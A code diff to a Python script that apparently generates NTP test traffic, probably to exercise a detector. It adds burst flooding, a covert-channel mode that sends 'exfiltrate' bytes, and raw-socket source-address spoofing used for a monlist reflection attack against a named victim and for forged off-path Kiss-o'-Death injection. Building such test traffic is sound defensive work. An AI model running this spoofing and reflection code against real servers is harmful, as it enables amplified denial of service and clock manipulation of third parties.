@@ -4,7 +4,14 @@
                            mode 7 (a three-packet monlist response of 440-byte packets)
   spoof ADDR               answers mode 3 correctly, then sends a reply with a wrong origin and a
                            RATE Kiss-o'-Death that match no request (an off-path attacker's packets)
-  client ADDR N            N mode 3 requests, one at a time, each waiting for its reply
+  client ADDR N [GAP]      N mode 3 requests, one at a time, each waiting for its reply, GAP
+                           seconds apart (0.05)
+  burst ADDR N             N mode 3 requests 50 ms apart, not waiting (a client polling far
+                           too fast); prints how many Kiss-o'-Death answers came back
+  offpath SERVER CLIENT    from another host: a mode 4 reply and a RATE KoD with SERVER's address
+                           as source at CLIENT:123, matching no request (raw socket)
+  covert ADDR              mode 3 requests carrying bytes no NTP layout explains (10 trailing
+                           bytes; an extension field whose length runs past the packet)
   monlist ADDR             one mode 7 MON_GETLIST_1 request (ntpdc's monlist), reads what comes
   reflect SERVER VICTIM    a mode 7 monlist request with the victim's address as source (raw socket)
 Everything stops by itself: servers after 120 s, clients after their last reply or 2 s.
@@ -73,17 +80,51 @@ def serve(address, spoof=False):
                 sock.sendto(packet, peer)
 
 
-def client(address, count):
+def client(address, count, gap=0.05):
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.settimeout(2)
+    replies = 0
     for _ in range(count):
         transmit = ntp_now() ^ (os.getpid() & 0xFFFF)
         sock.sendto(header(3, stratum=0, transmit=transmit), (address, 123))
-        while True:
-            data = sock.recv(2048)
-            if struct.unpack(">Q", data[24:32])[0] == transmit:
-                break
+        try:
+            while True:
+                data = sock.recv(2048)
+                if struct.unpack(">Q", data[24:32])[0] == transmit:
+                    replies += 1
+                    break
+        except socket.timeout:  # a server may skip a request (a restart, a leap second)
+            if count == 1:
+                raise
+        time.sleep(gap)
+    print(f"client: {replies} of {count} answered")
+    if replies == 0:
+        sys.exit(1)
+
+
+def burst(address, count):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setblocking(False)
+    kods = answers = 0
+    for i in range(count + 20):
+        if i < count:
+            sock.sendto(header(3, stratum=0, transmit=ntp_now()), (address, 123))
         time.sleep(0.05)
+        while True:
+            try:
+                data = sock.recv(2048)
+            except BlockingIOError:
+                break
+            answers += 1
+            kods += len(data) >= 48 and data[1] == 0 and (data[0] & 7) == 4
+    print(f"burst: {answers} answers, {kods} kiss-o'-death")
+
+
+def covert(address):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.sendto(header(3, stratum=0, transmit=ntp_now()) + b"exfiltrate", (address, 123))
+    sock.sendto(header(3, stratum=0, transmit=ntp_now()) + struct.pack(">HH", 0x2005, 400) + bytes(16),
+                (address, 123))
 
 
 def monlist(address):
@@ -109,15 +150,27 @@ def checksum(data):
     return ~total & 0xFFFF
 
 
-def reflect(server, victim, victim_port=80):
-    payload = monlist_request()
-    udp = struct.pack(">HHHH", victim_port, 123, 8 + len(payload), 0) + payload
+def spoofed(source, destination, source_port, destination_port, payload):
+    """An IPv4/UDP datagram with any source address (the UDP checksum is left 0: optional)."""
+    udp = struct.pack(">HHHH", source_port, destination_port, 8 + len(payload), 0) + payload
     ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
-                     socket.inet_aton(victim), socket.inet_aton(server))
-    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
+                     socket.inet_aton(source), socket.inet_aton(destination))
+    return ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:] + udp
+
+
+def reflect(server, victim, victim_port=80):
     sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     for _ in range(3):
-        sock.sendto(ip + udp, (server, 0))
+        sock.sendto(spoofed(victim, server, victim_port, 123, monlist_request()), (server, 0))
+        time.sleep(0.05)
+
+
+def offpath(server, client_address):
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    now = ntp_now()
+    for payload in (header(4, origin=now ^ 0x5A5A5A5A, receive=now, transmit=now),
+                    header(4, stratum=0, refid=0x52415445, origin=now ^ 0x1234)):
+        sock.sendto(spoofed(server, client_address, 123, 123, payload), (client_address, 0))
         time.sleep(0.05)
 
 
@@ -126,7 +179,13 @@ if __name__ == "__main__":
     if command in ("serve", "spoof"):
         serve(args[0], spoof=command == "spoof")
     elif command == "client":
-        client(args[0], int(args[1]))
+        client(args[0], int(args[1]), float(args[2]) if len(args) > 2 else 0.05)
+    elif command == "burst":
+        burst(args[0], int(args[1]))
+    elif command == "offpath":
+        offpath(args[0], args[1])
+    elif command == "covert":
+        covert(args[0])
     elif command == "monlist":
         monlist(args[0])
     elif command == "reflect":
